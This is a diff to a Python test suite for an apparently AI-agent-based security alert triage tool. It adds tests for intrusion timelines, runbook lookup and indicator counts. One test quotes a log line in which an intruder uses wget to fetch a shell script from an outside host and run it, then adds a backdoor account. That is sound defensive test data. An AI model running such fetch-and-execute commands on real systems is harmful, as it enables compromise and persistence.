@@ -17,6 +17,7 @@ from tests.agents_app.crew_alerts import (
     BARE,
     BRUTE_FORCE,
     DISK_FULL,
+    GOT_IN,
     MALWARE,
     OWN_SCANNER,
     SERVICE_DOWN,
@@ -171,6 +172,57 @@ def test_whatever_its_words_an_alert_that_names_somebody_outside_is_looked_into(
     assert [call.args["indicator"] for call in room.calls("describe_indicator")] == ["198.51.100.44", "k.sato", "pc-9"]
     assert room.calls("block_indicator") == []
     assert "The alert fits no kind this model knows" in room.report
+
+
+def test_what_followed_a_sign_in_that_worked_is_told_by_its_lines() -> None:
+    room = CrewRoom.open(GOT_IN.alert, log=GOT_IN.log, source="wazuh")
+    room.work_to_the_end()
+    (call,) = room.calls("timeline_of")
+    assert (call.args["around"], call.args["about"]) == ("auth.log:15", "ops")
+    second = room.incident.round_summaries.order_by("version")[1]
+    for words in (
+        "ops fetched something from outside at 04:13:31 (“/usr/bin/wget http://192.0.2.144/k.sh -O /tmp/k.sh”)",
+        "ran /tmp/k.sh at 04:13:48",
+        "added the account helper9 at 04:14:02",
+        "made something start by itself at 04:14:40",
+        "ran a command as root at 04:15:55 (“/bin/cat /etc/hostname”)",
+    ):
+        assert words in second.summary
+    assert set(second.findings[0]["evidence"]) <= set(GOT_IN.log.splitlines())
+    assert "Somebody got in. 198.51.100.66" in room.report
+    for left in ("the file /tmp/k.sh", "the account helper9", "Isolate jump-4", "traffic with 192.0.2.144"):
+        assert left in room.report
+
+
+def test_a_sign_in_of_ours_is_no_break_in() -> None:
+    room = CrewRoom.open(BRUTE_FORCE.alert, log=BRUTE_FORCE.log + ours(), source="wazuh")
+    room.work_to_the_end()
+    assert room.calls("timeline_of") == []
+    assert "got in" not in room.report
+
+
+def ours() -> str:
+    return "Oct 15 22:00:00 web-7 sshd[9]: Accepted publickey for deploy from 10.3.0.9 port 41022 ssh2\n"
+
+
+def test_the_panel_and_the_crew_count_a_user_alike() -> None:
+    room = CrewRoom.open(GOT_IN.alert, log=GOT_IN.log, source="wazuh")
+    room.work_to_the_end()
+    row = room.incident.indicators.get(kind="user", value="ops")
+    (call,) = [each for each in room.calls("describe_indicator") if each.args["indicator"] == "ops"]
+    assert call.result is not None
+    assert (call.result["seen_count"], call.result["count"]) == (row.seen_count, row.seen_count - 1)
+    first = room.incident.round_summaries.order_by("version")[0]
+    assert f"with the alerts it was seen {row.seen_count} times" in first.summary
+
+
+def test_the_runbook_that_applies_is_looked_up_and_named() -> None:
+    room = CrewRoom.open(BRUTE_FORCE.alert, log=BRUTE_FORCE.log, source="wazuh")
+    room.work_to_the_end()
+    (call,) = room.calls("lookup_runbook")
+    assert call.result is not None
+    assert call.result["runbooks"][0]["title"] == "Password guessing and brute force"
+    assert "Go through the runbook “Password guessing and brute force”." in room.report
 
 
 def test_the_first_summary_counts_what_the_log_holds() -> None:
